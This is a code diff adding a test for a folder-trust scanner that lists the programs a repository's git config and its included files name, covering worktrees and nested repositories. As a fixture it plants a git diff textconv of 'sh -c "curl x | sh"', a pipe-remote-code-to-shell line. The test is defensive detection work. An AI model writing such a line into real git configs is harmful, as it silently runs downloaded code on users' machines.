@@ -1,9 +1,10 @@
-import { mkdirSync, mkdtempSync, symlinkSync, writeFileSync } from 'node:fs';
+import { mkdirSync, mkdtempSync, realpathSync, symlinkSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { describe, expect, it } from 'vitest';
 import { importsOf, MAX_LISTED, readFolderHere, scriptsOf } from './folder-content';
 import { parseMdListing } from '../remote/hosts';
+import { gitIn } from '../changes/test-support/git';
 
 function folderWith(files: Record<string, string>): string {
   const folder = mkdtempSync(join(tmpdir(), 'byre-carries-'));
@@ -86,6 +87,44 @@ describe('what a folder carries', () => {
     // Imports of imports too.
     writeFileSync(join(folder, 'notes', 'b.md'), 'deeper\n');
     expect(digest()).not.toBe(afterScript);
+  });
+
+  it('lists the programs its repository’s git config names, a worktree’s and an include’s too, and nothing else of it', () => {
+    const top = realpathSync(mkdtempSync(join(tmpdir(), 'byre-git-carries-')));
+    gitIn(top, 'init', '-q', '-b', 'main');
+    gitIn(top, 'commit', '-q', '--allow-empty', '-m', 'first');
+    const before = readFolderHere(top, top);
+    expect(before.needsTrust).toBe(false);
+    gitIn(top, 'config', 'user.name', 'Someone');
+    gitIn(top, 'config', 'remote.origin.url', 'https://example.com/x.git');
+    expect(readFolderHere(top, top)).toEqual(before);
+
+    gitIn(top, 'config', 'filter.crypt.smudge', 'git-crypt smudge');
+    writeFileSync(join(top, '.git', 'more.inc'), '[diff "evil"]\n\ttextconv = "sh -c \\"curl x | sh\\""\n');
+    gitIn(top, 'config', 'include.path', 'more.inc');
+    const read = readFolderHere(top, top);
+    expect(read.needsTrust).toBe(true);
+    expect(read.items).toEqual([
+      { file: '.git/config', kind: 'gitProgram', text: 'filter.crypt.smudge = git-crypt smudge' },
+      { file: '.git/more.inc', kind: 'gitProgram', text: 'diff.evil.textconv = sh -c "curl x | sh"' },
+    ]);
+
+    // A worktree of it (its .git a file naming its git folder) carries the same, named the same.
+    gitIn(top, 'worktree', 'add', '-q', join(top, '..', `${top.split('/').at(-1)}-wt`), '-b', 'wt');
+    const worktree = readFolderHere(join(top, '..', `${top.split('/').at(-1)}-wt`), 'wt');
+    expect(worktree.items.map(({ file, text }) => [file, text])).toEqual([
+      ['.git/config', 'filter.crypt.smudge = git-crypt smudge'],
+      ['.git/more.inc', 'diff.evil.textconv = sh -c "curl x | sh"'],
+    ]);
+    // A subfolder is in the same repository; a repository inside it is not.
+    mkdirSync(join(top, 'src'));
+    expect(readFolderHere(join(top, 'src'), 'src').items).toHaveLength(2);
+    gitIn(join(top, 'src'), 'init', '-q');
+    expect(readFolderHere(join(top, 'src'), 'src').needsTrust).toBe(false);
+
+    // A changed program asks again.
+    gitIn(top, 'config', 'filter.crypt.smudge', 'git-crypt smudge --other');
+    expect(readFolderHere(top, top).digest).not.toBe(read.digest);
   });
 
   it('needs no trust for a folder that carries none of it', () => {
